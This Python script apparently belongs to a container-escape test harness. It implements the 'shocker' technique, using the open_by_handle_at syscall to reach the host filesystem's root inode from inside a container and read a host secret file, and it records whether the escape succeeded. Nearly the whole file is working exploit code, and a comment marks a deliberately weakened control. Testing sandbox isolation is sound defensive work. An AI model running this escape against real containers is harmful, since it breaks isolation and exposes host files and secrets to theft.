# Opens files by handle instead of by path ("shocker", 2014).
# Why it matters: a handle names an inode of the whole filesystem, not of the part that is mounted for us.
# When it works: inode 2, the root of the host's ext4, is opened and the secret is found below it.
# control: weakened: same-filesystem
import ctypes
import os
import struct

from attempt import blocked, fact, is_canary, escaped, name_of, reached, run, syscall

NAME_TO_HANDLE_AT, OPEN_BY_HANDLE_AT = 303, 304


def handle_of(path):
    buffer = ctypes.create_string_buffer(struct.pack("=Ii", 128, 0), 8 + 128)
    mount_id = ctypes.c_int()
    syscall(NAME_TO_HANDLE_AT, -100, path.encode(), buffer, ctypes.byref(mount_id), 0)
    size, kind = struct.unpack_from("=Ii", buffer)
    return kind, buffer.raw[8 : 8 + size]


def open_handle(mount_fd, kind, handle):
    buffer = ctypes.create_string_buffer(struct.pack("=Ii", len(handle), kind) + handle)
    return syscall(OPEN_BY_HANDLE_AT, mount_fd, buffer, os.O_RDONLY)


def attempt():
    answers, own_opened = [], None
    mine = f"/tmp/handle-{os.getpid()}"
    open(mine, "w").close()
    for path in (mine, "/", "/etc/hosts", "/etc/resolv.conf", "/etc/hostname", "/dev", "/dev/shm"):
        try:
            mount_fd = os.open(path if os.path.isdir(path) else os.path.dirname(path), os.O_RDONLY)
            if not os.path.isdir(path):
                mount_fd = os.open(path, os.O_RDONLY)
            # The root directory of an ext4 is inode 2, and of a btrfs objectid 256 in tree 5.
            for kind, handle in ((1, struct.pack("=II", 2, 0)), (0x4D, struct.pack("=QQI", 256, 5, 0)), handle_of(path)):
                try:
                    opened = open_handle(mount_fd, kind, handle)
                    own_opened = path
                    file = os.open(fact("HOST_FILE").lstrip("/"), os.O_RDONLY, dir_fd=opened)
                    if is_canary(os.read(file, 4096)):
                        escaped(f"read the host's secret through a handle on the filesystem of {path}")
                except OSError as error:
                    answers.append(f"{path} kind {kind:#x}: {name_of(error)}")
        except OSError as error:
            answers.append(f"{path}: {name_of(error)}")
    if own_opened:
        reached(f"open_by_handle_at works on {own_opened}")
    blocked("; ".join(answers))


run(attempt)
